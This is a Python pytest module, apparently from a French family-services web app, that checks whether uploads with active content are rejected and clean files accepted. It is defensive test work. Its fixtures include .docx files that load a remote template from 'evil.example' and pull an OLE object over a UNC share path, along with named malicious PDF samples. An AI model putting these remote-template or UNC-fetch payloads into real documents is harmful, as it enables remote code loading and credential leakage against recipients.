"""Finding 12: files of an accepted format that carry active content are refused in French and
nothing is stored: a PDF with JavaScript or automatic actions (/OpenAction, /Launch, /AA),
an old Word .doc with VBA macros, a .docx loading a remote template or object, an image
over the megapixel limit. Clean files of the same formats still pass."""

from __future__ import annotations

import html

import pytest

from app.extensions import db
from app.models import FamilyDocument, Request
from tests import factories as f
from tests.hardening import ole, pdfs

from . import samples
from .conftest import stored_files, upload

SEND = "/famille/documents/transmettre"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
OLE_OBJECT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _rels(kind: str, target: str) -> dict[str, bytes]:
    return {"word/_rels/settings.xml.rels": (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId1" Type="{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>').encode()}


PDF_ACTIVE = "contient du code ou des actions automatiques"
REFUSED = [
    ("js-open.pdf", pdfs.JAVASCRIPT_OPEN_ACTION, PDF_ACTIVE),
    ("js-names.pdf", pdfs.JAVASCRIPT_NAMES, PDF_ACTIVE),
    ("launch.pdf", pdfs.LAUNCH_OPEN_ACTION, PDF_ACTIVE),
    ("launch-link.pdf", pdfs.LAUNCH_LINK, PDF_ACTIVE),
    ("page-script.pdf", pdfs.PAGE_OPEN_SCRIPT, PDF_ACTIVE),
    ("escaped.pdf", pdfs.ESCAPED_NAME, PDF_ACTIVE),
    ("orphan.pdf", pdfs.ORPHAN_SCRIPT, PDF_ACTIVE),
    ("faux.pdf", b"%PDF-1.4\n<< garbage", "est illisible ou abîmé"),
    ("macros.doc", ole.word97(macros=True), "contient des macros"),
    ("faux.doc", samples.OLE_DOC[:700], "est illisible ou abîmé"),
    ("modele.docx", samples.docx(_rels(TEMPLATE, "http://evil.example/t.dotm")),
     "charge un modèle ou un contenu depuis Internet"),
    ("objet.docx", samples.docx(_rels(OLE_OBJECT, "\\\\evil.example\\share\\x.bin")),
     "charge un modèle ou un contenu depuis Internet"),
    ("49mp.png", samples.huge_png(7_000), "est trop grande"),
]
ACCEPTED = [
    ("page-un.pdf", pdfs.OPENS_ON_PAGE_ONE),
    ("propre.pdf", pdfs.CLEAN),
    ("ancien.doc", ole.word97()),
    ("lien.docx", samples.docx(_rels(LINK, "https://www.service-public.fr/"))),
    ("23mp.png", samples.huge_png(4_800)),
]


def _send(client, world, data: bytes, name: str):
    form = {"document_type": str(world.certificate_type_id), "file": upload(data, name)}
    return client.post(SEND, data=form, content_type="multipart/form-data")


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_active_content_is_refused_in_french_and_nothing_is_stored(
        app, client, world, name, data, message):
    f.login(client, "martin")
    before = stored_files(app)

    response = _send(client, world, data, name)

    assert response.status_code == 400
    assert message in html.unescape(response.get_data(as_text=True))
    with app.app_context():
        assert db.session.query(FamilyDocument).count() == 0
        assert db.session.query(Request).count() == 0
    assert stored_files(app) == before


@pytest.mark.parametrize(("name", "data"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_clean_files_of_the_same_formats_pass(app, client, world, name, data):
    f.login(client, "martin")
    response = _send(client, world, data, name)
    assert response.status_code == 303, html.unescape(response.get_data(as_text=True))[-3000:]
    with app.app_context():
        assert db.session.query(FamilyDocument).count() == 1
